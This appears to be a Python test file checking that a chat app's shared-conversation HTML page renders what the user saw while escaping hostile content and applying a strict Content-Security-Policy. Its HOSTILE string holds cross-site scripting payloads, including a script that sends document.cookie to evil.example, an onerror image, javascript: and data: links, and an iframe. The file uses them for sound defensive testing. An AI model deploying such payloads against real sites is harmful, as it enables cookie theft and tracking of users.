"""A conversation shared as one HTML page (app/frontends/streamlit/share_html.py): everything a user saw is in it,
and nothing a hostile message wrote can run or load from elsewhere: no script, no remote picture, no javascript:
link, and a Content-Security-Policy that forbids every fetch but data: pictures. Opened in Chromium with the network
off, it makes no request: tests/browser/test_share_browser.py."""

from __future__ import annotations

import re

from app.domain.conversation import AnswerMetrics, Attachment, Message, Source, ToolCall
from app.frontends.streamlit.share_html import CSP, conversation_html
from tests.browser.test_browser import sunset_png

HOSTILE = ('<script>fetch("http://evil.example/?c="+document.cookie)</script>'
           '<img src="http://evil.example/pixel.png" onerror="alert(1)">'
           "![tracker](http://evil.example/t.png) [click](javascript:alert(1)) "
           "[data](data:text/html,<script>x</script>)"
           '<iframe src="http://evil.example"></iframe><style>body{background:url(http://evil.example/bg)}</style>')


def conversation() -> list[Message]:
    call = ToolCall("calculator", {"expression": "17 * 23"})
    return [
        Message("user", "What is **17 × 23**? And this: " + HOSTILE,
                attachments=[Attachment("image", "sunset.png", data=sunset_png()),
                             Attachment("passages", "1 passage from notes.md", sources=[
                                 Source(1, "notes.md", "page 212", "The keeper earned <b>eleven</b> shillings.")])]),
        Message("assistant", "", tool_calls=[call], thinking="I should use the calculator."),
        Message("tool", "391", tool_call_id=call.id, name="calculator", tool_status="ok"),
        Message("assistant", "It is **391** [1]. " + HOSTILE,
                metrics=AnswerMetrics(completion_tokens=12, tokens_per_second=30.5)),
    ]


def test_the_page_holds_what_the_user_saw():
    page = conversation_html("A <sum>", conversation())
    assert "<title>A &lt;sum&gt;</title>" in page
    assert "<strong>17 × 23</strong>" in page and "<strong>391</strong>" in page  # markdown rendered
    assert "Tool call: calculator" in page and "&quot;expression&quot;: &quot;17 * 23&quot;" in page
    assert "Result of calculator (ok)" in page and "<pre>391</pre>" in page
    assert "I should use the calculator." in page
    assert "[1] notes.md · page 212" in page and "The keeper earned &lt;b&gt;eleven&lt;/b&gt; shillings." in page
    assert re.search(r'<img alt="sunset.png" src="data:image/png;base64,[A-Za-z0-9+/=]+">', page)
    assert "12 tokens · 30.5 tok/s" in page


def test_nothing_a_message_wrote_can_run_or_load_from_elsewhere():
    page = conversation_html("Shared", conversation())
    assert f'<meta http-equiv="Content-Security-Policy" content="{CSP}">' in page
    assert "default-src 'none'" in CSP and "script-src" not in CSP
    lowered = page.lower()
    assert "<script" not in lowered and "<iframe" not in lowered and "<style>body{background" not in lowered
    assert "<img src=\"http" not in lowered
    assert 'href="javascript:' not in lowered and 'href="data:' not in lowered
    sources = re.findall(r'\bsrc="([^"]*)"', page)
    assert sources and all(source.startswith("data:image/") for source in sources)  # only the embedded picture
    assert '<a href="http://evil.example/t.png" rel="noreferrer">tracker</a>' in page  # a markdown image: a link
    assert "&lt;script&gt;" in page  # the hostile text is there, as text
